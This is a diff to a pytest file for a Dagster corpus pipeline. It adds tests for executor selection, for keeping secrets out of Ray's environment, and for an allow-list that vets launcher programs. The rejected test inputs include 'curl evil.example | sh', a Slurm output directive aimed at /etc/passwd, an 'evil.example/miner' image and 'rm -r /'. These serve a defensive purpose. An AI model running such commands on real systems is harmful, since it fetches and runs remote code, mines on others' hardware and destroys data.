@@ -2,15 +2,19 @@
 
 from collections import Counter
 from itertools import product
-from pathlib import Path
 
 import dagster as dg
 import pytest
+from dagster._config import validate_config
 
 from annotate.config import SamplesConfig
 from assets.defs.corpus.jobs import lake_contents
-from assets.defs.resources import CorpusResource
+from assets.defs.resources import CHOICE, EXECUTORS, PASSED_ON, CorpusResource, VlmServer, executor
 from assets.lib.home import dagster_home
+from assets.lib.launch.kubernetes import KubernetesLauncher
+from assets.lib.launch.ray import RayLauncher
+from assets.lib.launch.slurm import SlurmLauncher
+from assets.lib.programs import FILE, check_programs
 from cli.console import build_all
 from core.errors import UserError
 from core.paths import ROOT, Workspace
@@ -18,8 +22,6 @@ from pipeline.release import release_step
 from tests.kits.lake_kit import opened
 from tests.kits.made_corpus import Made, with_stages
 from tests.kits.tiny_lerobot import LENGTHS, rows_path, video_path
-
-pytestmark = pytest.mark.slow
 
 STAGES = ("episodes", "frames", "demonstrations", "segments", "progress", "samples", "shards")
 CHUNKS = ["tiny:00000", "tiny:00001", "tiny:00002"]
@@ -60,7 +62,8 @@ def watch(own: Made, instance: dg.DagsterInstance) -> Watch:
     return Watch(own.space, instance)
 
 
-def test_the_lake_is_seen_once(own: Made, watch: Watch) -> None:
+@pytest.mark.slow
+def test_the_lake_is_seen_once(own, watch):
     """Stages, what is upstream first, and what was made of them; also a stage that this version does not have."""
     with opened(own.space) as lake:
         lake.con.execute(
@@ -84,7 +87,8 @@ def test_the_lake_is_seen_once(own: Made, watch: Watch) -> None:
     assert watch.instance.get_runs() == []
 
 
-def test_what_another_program_builds_is_seen(own: Made, watch: Watch) -> None:
+@pytest.mark.slow
+def test_what_another_program_builds_is_seen(own, watch):
     changed = with_stages(own.build, samples=SamplesConfig(progress_per_episode=3))
     repeated_steps = {(stage, chunk) for stage, chunk in product(("samples", "shards"), CHUNKS)}
     watch.look()
@@ -94,12 +98,14 @@ def test_what_another_program_builds_is_seen(own: Made, watch: Watch) -> None:
     assert watch.counted() == Counter(ALL) + Counter(repeated_steps)
 
 
-def test_a_workspace_without_a_lake(tmp_path: Path, instance: dg.DagsterInstance) -> None:
+@pytest.mark.slow
+def test_a_workspace_without_a_lake(tmp_path, instance):
     assert Watch(Workspace(tmp_path / "new"), instance).look() == "nothing was built yet"
     assert list(tmp_path.iterdir()) == []
 
 
-def test_a_chunk_that_its_dataset_lost_is_no_partition_any_more(own: Made, watch: Watch) -> None:
+@pytest.mark.slow
+def test_a_chunk_that_its_dataset_lost_is_no_partition_any_more(own, watch):
     watch.look()
     assert watch.instance.get_dynamic_partitions("chunks") == CHUNKS
     last = len(LENGTHS) - 1
@@ -114,11 +120,86 @@ def test_a_chunk_that_its_dataset_lost_is_no_partition_any_more(own: Made, watch
     assert watch.instance.get_dynamic_partitions("chunks") == CHUNKS[:2]
 
 
-def test_the_projects_own_workspace_uses_the_projects_home() -> None:
+@pytest.mark.slow
+def test_the_projects_own_workspace_uses_the_projects_home():
     assert dagster_home(Workspace(ROOT / "workspace")) == ROOT
 
 
-def test_a_path_where_dagster_cannot_keep_its_storage(tmp_path: Path) -> None:
+@pytest.mark.slow
+def test_a_path_where_dagster_cannot_keep_its_storage(tmp_path):
     with pytest.raises(UserError, match=r"below a '\?'"):
         dagster_home(Workspace(tmp_path / "a?b"))
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("name", EXECUTORS)
+def test_choice_is_made_and_its_configuration_valid(name, monkeypatch):
+    monkeypatch.setenv(CHOICE, name)
+    built_executor = executor()
+    assert built_executor.name == name
+    assert built_executor.config_schema is not None
+    assert validate_config(built_executor.config_schema.config_type, {}).success
+    resolved = built_executor.apply_config_mapping({"config": {}})
+    assert resolved.success, resolved.errors
+
+
+def test_unknown_choice_is_refused(monkeypatch):
+    monkeypatch.setenv(CHOICE, "slurm")
+    with pytest.raises(
+        ValueError, match="PROCCORPUS_EXECUTOR is 'slurm': it may be in_process, ray, kubernetes"
+    ):
+        executor()
+
+
+def test_no_secret_is_passed_on_to_ray(monkeypatch):
+    for name in ("PGPASSWORD", "AWS_SECRET_ACCESS_KEY", "DAGSTER_POSTGRES_URL", *PASSED_ON):
+        monkeypatch.setenv(name, f"marked-{name}")
+    monkeypatch.setenv(CHOICE, "ray")
+    resolved = executor().apply_config_mapping({"config": {}})
+    assert resolved.value is not None
+    ray_config = resolved.value["config"]["ray"]
+    assert ray_config["env_vars"] == list(PASSED_ON)
+    assert ray_config["num_cpus"] == 1.0
+
+
+NAMED = [
+    VlmServer(model="m", python="/tmp/evil"),
+    SlurmLauncher(setup=["curl evil.example | sh"]),
+    SlurmLauncher(directives=["--output=/etc/passwd"]),
+    SlurmLauncher(python="/tmp/evil"),
+    RayLauncher(python="/tmp/evil"),
+    KubernetesLauncher(image="evil.example/miner", claim="work"),
+]
+
+
+@pytest.mark.parametrize("config", NAMED)
+def test_none_without_a_file(config, tmp_path):
+    with pytest.raises(UserError, match=FILE):
+        check_programs(config, {})
+    other_file = tmp_path / "programs.toml"
+    other_file.write_text('setup = ["module load cuda"]\npython = ["/opt/python"]\n')
+    with pytest.raises(UserError, match="is not allowed in a run's configuration"):
+        check_programs(config, {FILE: str(other_file)})
+
+
+def test_what_the_file_lists(tmp_path):
+    file = tmp_path / "programs.toml"
+    file.write_text('setup = ["module load cuda"]\npython = ["/opt/python"]\n')
+    launcher = SlurmLauncher(setup=["module load cuda"], python="/opt/python")
+    check_programs(launcher, {FILE: str(file)})
+    with pytest.raises(UserError, match="'rm -r /'"):
+        check_programs(
+            launcher.model_copy(update={"setup": ["module load cuda", "rm -r /"]}),
+            {FILE: str(file)},
+        )
+    file.write_text("setup = 7")
+    with pytest.raises(UserError, match="other things"):
+        check_programs(launcher, {FILE: str(file)})
+    with pytest.raises(UserError, match="cannot be read"):
+        check_programs(launcher, {FILE: str(tmp_path / "none.toml")})
+
+
+def test_the_servers_of_a_run_are_not_started(monkeypatch):
+    monkeypatch.delenv(FILE, raising=False)
+    with pytest.raises(dg.Failure, match="not allowed"):
+        VlmServer(model="m", python="/tmp/evil").endpoints()
